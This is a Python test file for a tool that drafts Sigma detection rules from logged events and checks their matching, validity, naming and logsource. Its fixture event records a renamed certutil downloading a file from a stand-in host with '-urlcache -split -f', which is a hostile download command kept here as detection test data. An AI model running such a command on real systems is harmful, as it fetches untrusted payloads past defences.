"""A draft matches the event that it is made of, is a rule without faults, and asks for what is rare."""

from __future__ import annotations

import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sigmac.compiler.checks.checker import check_sources
from sigmac.compiler.drafts.draft import Draft, draft, file_name, rule_text, title_of
from sigmac.compiler.drafts.possible_items import candidates
from sigmac.compiler.drafts.told_logsource import told_logsource
from sigmac.compiler.meaning import reference
from sigmac.compiler.syntax.documents import read_file
from sigmac.compiler.syntax.rule_files import find_sources
from tests.examples import examples

WINDOWS = {"product": "windows", "category": "process_creation"}
SYSMON = "Microsoft-Windows-Sysmon/Operational"
STARTED = {
    "Channel": SYSMON,
    "EventID": 1,
    "Computer": "ws07.contoso.example",
    "UtcTime": "2026-11-23 08:31:12.115",
    "ProcessGuid": "{8f3ca2b5-0000-0000-0000-000000000001}",
    "Image": r"C:\Users\Public\cu.exe",
    "OriginalFileName": "CertUtil.exe",
    "CommandLine": "cu.exe -urlcache -split -f http://files.example/u.bin",
    "Hashes": "MD5=0123456789abcdef0123456789abcdef",
}
TODAY = datetime.date(2026, 11, 30)


def said(drafted: Draft, title: str | None = None) -> str:
    return rule_text(drafted, title or title_of(drafted), "me", TODAY)


def test_what_passes_is_not_asked_for() -> None:
    assert {each.field for each in candidates(STARTED)} == {
        "Image",
        "OriginalFileName",
        "CommandLine",
    }


def test_the_rarest_is_asked_for_until_nothing_is_left() -> None:
    usual = {**STARTED, "Image": r"C:\Windows\System32\certutil.exe", "CommandLine": "certutil -v"}
    drafted = draft(STARTED, WINDOWS, [usual] * 5 + [{"Image": r"C:\x\cu.exe"}])
    assert (drafted.items[0].key, drafted.items[0].value) in (
        ("CommandLine|contains", "http://files.example/u.bin"),
        ("Image|endswith", r"\cu.exe"),
    )
    assert (drafted.corpus, drafted.matched) == (6, 0)
    assert drafted.near_miss in (usual, {"Image": r"C:\x\cu.exe"})


def test_what_cannot_be_told_apart_is_counted() -> None:
    drafted = draft({"A": "word", "B": 1}, WINDOWS, [{"A": "word"}, {"A": "other"}])
    assert (drafted.corpus, drafted.matched) == (2, 1)


def test_an_event_that_holds_nothing_to_ask_for_is_refused() -> None:
    with pytest.raises(ValueError, match="holds no text"):
        draft({"EventID": 1, "UtcTime": "2026-11-23 08:31:12.115"}, WINDOWS)


TEXTS = st.text(max_size=30) | st.sampled_from(
    ["C:\\a\\b*.exe", "a ? b\\*c words", "\\", "%x% 'y'"]
)
EVENTS = st.dictionaries(
    st.sampled_from(["Image", "A", "b.c", "a|b"]) | st.text(max_size=6), TEXTS, max_size=5
)


@examples(90)
@given(EVENTS, st.lists(EVENTS, max_size=4))
def test_a_draft_matches_its_event(event: dict[str, Any], corpus: list[dict[str, Any]]) -> None:
    try:
        drafted = draft(event, WINDOWS, corpus)
    except ValueError:
        return
    contents = read_file(said(drafted).encode(), "r.yml")
    assert contents.diagnostics.errors == [], said(drafted)
    [rule] = contents.rules
    assert reference.matches(rule, event), said(drafted)
    others = [each for each in corpus if each != event]
    assert sum(bool(reference.matches(rule, each)) for each in others) == drafted.matched


def test_it_is_a_rule_without_faults(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(said(draft(STARTED, WINDOWS)), encoding="utf-8")
    assert check_sources(find_sources([tmp_path]), ["windows"]) == []


@pytest.mark.parametrize(
    ("logsource", "name"),
    [
        (WINDOWS, "windows/process_creation/proc_creation_win_a_b.yml"),
        (
            {"product": "windows", "service": "security"},
            "windows/security/windows_security_a_b.yml",
        ),
        (
            {"product": "windows", "category": "registry_set"},
            "windows/registry_set/registry_set_a_b.yml",
        ),
        ({"product": "aws", "service": "cloudtrail"}, "aws/cloudtrail/aws_cloudtrail_a_b.yml"),
        ({"category": "proxy"}, "proxy/proxy_a_b.yml"),
    ],
)
def test_it_is_named_as_others_are(logsource: dict[str, str], name: str) -> None:
    assert file_name(draft(STARTED, logsource), "A / ../ b!") == name


@pytest.mark.parametrize(
    ("event", "logsource"),
    [
        ({"Channel": SYSMON, "EventID": 1}, WINDOWS),
        ({"Channel": SYSMON, "EventID": "13"}, {"product": "windows", "category": "registry_set"}),
        ({"Channel": SYSMON, "EventID": 99}, {"product": "windows", "service": "sysmon"}),
        ({"Channel": "security", "EventID": 4625}, {"product": "windows", "service": "security"}),
        ({"Channel": "Own", "EventID": 1}, {"product": "windows"}),
        ({"_path": "dns"}, {"product": "zeek", "service": "dns"}),
        ({"a": 1}, {}),
    ],
)
def test_an_event_tells_its_logsource(event: dict[str, Any], logsource: dict[str, str]) -> None:
    assert told_logsource(event) == logsource
